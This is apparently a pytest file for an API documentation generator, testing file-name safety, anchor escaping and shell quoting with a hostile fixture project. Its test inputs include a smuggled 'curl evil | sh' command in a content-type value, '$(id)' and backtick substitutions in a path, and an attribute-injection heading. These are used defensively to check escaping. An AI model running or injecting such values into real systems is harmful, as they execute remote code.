"""No name of a document chooses where a file stands, and no two names meet in one file."""

from __future__ import annotations

import copy
import json
from collections import Counter
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
import yaml

from generator.model.api import Operation
from generator.model.types import Scalar, parse_type
from generator.pages.commands import raw_commands
from generator.pages.markdown import anchor_id, heading
from tests.security.hostile import done, run
from tests.security.payloads import GROUPS, KINDS, TEXTS

SPECS = Path(__file__).parent.parent / "specs"
DEVICES = {"con", "prn", "aux", "nul", *(f"{name}{number}" for name in ("com", "lpt") for number in range(10))}
FOLDERS = ("model", "docs", "locales", "site")
LONGEST = 200
"""Bytes of one segment that every file system takes, with room for what a temporary file adds."""


@pytest.fixture(scope="module")
def paths(hostile: Path) -> dict[str, list[PurePosixPath]]:
    """Every file of the hostile project, by the folder at its root."""
    return {
        folder: [
            PurePosixPath(path.relative_to(hostile).as_posix())
            for path in (hostile / folder).rglob("*")
            if path.is_file()
        ]
        for folder in FOLDERS
    }


def test_every_kind_and_group_has_a_file_of_its_own(paths: dict[str, list[PurePosixPath]]):
    pages = [
        path
        for path in paths["model"]
        if path.parts[1] not in {"overlay", ".schema", "definitions"} and len(path.parts) == 3
    ]

    # With the hostile kind itself, four versions and two of the custom resource.
    assert len(KINDS) + len(GROUPS) + 1 + 4 + 2 == len(pages)


@pytest.mark.parametrize("folder", FOLDERS)
def test_no_two_paths_differ_in_case_only(paths: dict[str, list[PurePosixPath]], folder: str):
    folded = Counter(str(path).casefold() for path in paths[folder])

    assert [] == [path for path, times in folded.items() if times > 1]


@pytest.mark.parametrize("folder", FOLDERS)
def test_every_segment_is_one_that_every_file_system_takes(paths: dict[str, list[PurePosixPath]], folder: str):
    segments = {segment for path in paths[folder] for segment in path.parts}

    assert [] == [segment for segment in segments if segment.split(".")[0].lower() in DEVICES]
    assert [] == [segment for segment in segments if len(segment.encode()) > LONGEST or segment[-1] in ". "]
    assert [] == [segment for segment in segments if set(segment) & set('<>:"\\|?*') or not segment.isprintable()]


def _two_parameters(first: str, second: str) -> dict[str, Any]:
    operation = {
        "parameters": [
            {"in": "query", "type": "string", "name": name, "description": f"{ordinal} one."}
            for name, ordinal in ((first, "First"), (second, "Second"))
        ],
        "responses": {"200": {"description": "OK"}},
    }
    return {"swagger": "2.0", "info": {"title": "x", "version": "1"}, "paths": {"/x": {"get": operation}}}


@pytest.mark.parametrize(
    ("first", "second"),
    [("limit", "LIMIT"), ("a/b", "a b"), ("a" * 300, "a" * 299 + "b"), ("con", "CON"), ("..", "."), ("é", "e\u0301")],
)
def test_parameters_whose_names_are_alike_keep_their_own_texts(tmp_path: Path, first: str, second: str):
    project = tmp_path / "p"
    done("init", project, "--locales", "en")
    (project / "x.json").write_text(json.dumps(_two_parameters(first, second)), encoding="utf-8")
    done("--project", project, "import", project / "x.json")
    done("--project", project, "generate")
    written = [path.relative_to(project).as_posix() for path in (project / "docs").rglob("*.md")]
    text = "".join(path.read_text(encoding="utf-8") for path in (project / "docs").rglob("*.md"))

    assert len(written) == len({path.casefold() for path in written})
    assert text.count("First one.") == text.count("Second one.") == 1
    assert max(len(PurePosixPath(path).name) for path in written) <= LONGEST


@pytest.mark.parametrize("format_", [payload.text for payload in TEXTS] + [")", '"', "a\nb", "x(y)"])
def test_format_of_any_characters_is_read_back(format_: str):
    type_ = Scalar("string", format_)

    assert type_ == parse_type(str(type_))
    assert format_ == parse_type(f"[]{type_}").items.format


@pytest.mark.parametrize("name", ["__proto__", "_x_", "a__b", "-_y_-", "_"])
def test_underscores_at_the_edge_of_a_word_make_no_emphasis_in_an_anchor(name: str):
    assert "__" not in anchor_id(name).replace("a__b", "")
    assert not anchor_id(name).startswith("_")


def test_heading_that_holds_braces_keeps_its_own_anchor():
    assert "### a \\{ .pwned onclick=x {#own}" == heading("a { .pwned onclick=x", 3, "own")


def test_command_quotes_what_a_shell_would_act_on():
    operation = Operation(
        id="x",
        action="",
        method="POST",
        path="/a/$(id)/`id`/{x;y}",
        kind=None,
        consumes=('a/b"; curl evil | sh; "',),
        responses=(),
    )
    lines = "\n".join(raw_commands(operation))

    assert "$(id)" not in lines
    assert "`" not in lines


def test_example_of_a_kind_shows_a_format_as_one_value(hostile: Path):
    page = (hostile / "docs" / "en" / "reference" / "crd").rglob("*.md")

    assert all("\nevil:" not in path.read_text(encoding="utf-8") for path in page)


@pytest.mark.parametrize("inner", ["operations", "responses", "parameters"])
def test_model_in_which_something_stands_twice_is_refused(tmp_path: Path, inner: str):
    project = tmp_path / "p"
    done("init", project, "--locales", "en")
    done("--project", project, "import", SPECS / "one-kind.json")
    path = next((project / "model").rglob("lantern-v1.yaml"))
    model = yaml.safe_load(path.read_text(encoding="utf-8"))
    holder = model if inner == "operations" else model["operations"][0]
    holder[inner] += copy.deepcopy(holder[inner])
    path.write_text(yaml.safe_dump(model), encoding="utf-8")
    result = run("--project", project, "generate")

    assert 3 == result.exit_code
    assert "stands twice" in result.stderr
